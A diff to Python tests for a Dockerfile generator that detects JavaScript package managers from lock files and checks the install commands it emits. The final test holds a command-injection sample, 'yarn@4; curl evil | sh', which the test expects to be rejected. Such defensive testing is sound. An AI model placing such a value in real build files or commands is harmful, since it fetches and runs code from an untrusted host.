@@ -58,7 +58,8 @@ def test_a_python_project_with_a_package_json_stays_python(tmp_path):
         ({}, "npm", "", ""),
         ({"yarn.lock": "# yarn lockfile v1\n"}, "yarn", "yarn.lock", ""),
         ({"yarn.lock": "__metadata:\n  version: 6\n"}, "yarn-berry", "yarn.lock", ""),
-        ({"pnpm-lock.yaml": "lockfileVersion: '6.0'\n"}, "pnpm", "pnpm-lock.yaml", ""),
+        ({"pnpm-lock.yaml": "lockfileVersion: '6.0'\n"}, "pnpm", "pnpm-lock.yaml", "pnpm@8"),
+        ({"pnpm-lock.yaml": "lockfileVersion: '9.0'\n"}, "pnpm", "pnpm-lock.yaml", "pnpm@9"),
     ],
 )
 def test_the_lock_file_decides_the_package_manager(tmp_path, files, manager, lockfile, spec):
@@ -183,8 +184,13 @@ def test_recipe_installs_from_the_lock_file(manager, locked, line):
 
 
 def test_recipe_refuses_a_package_manager_pin_that_is_not_one():
-    assert "corepack prepare yarn@4.1.0 --activate" in render_js_dockerfile(
+    assert "npm install -g @yarnpkg/cli-dist@4.1.0 && yarn" in render_js_dockerfile(
         "20", "yarn-berry", True, "yarn@4.1.0"
     )
+    assert "npm install -g @yarnpkg/cli-dist && yarn" in render_js_dockerfile(
+        "20", "yarn-berry", True
+    )
+    assert "npm install -g pnpm@9" in render_js_dockerfile("18", "pnpm", True, "pnpm@9")
+    assert "npm install -g yarn@1" in render_js_dockerfile("18", "yarn", True)
     with pytest.raises(ValueError):
         render_js_dockerfile("20", "yarn-berry", True, "yarn@4; curl evil | sh")
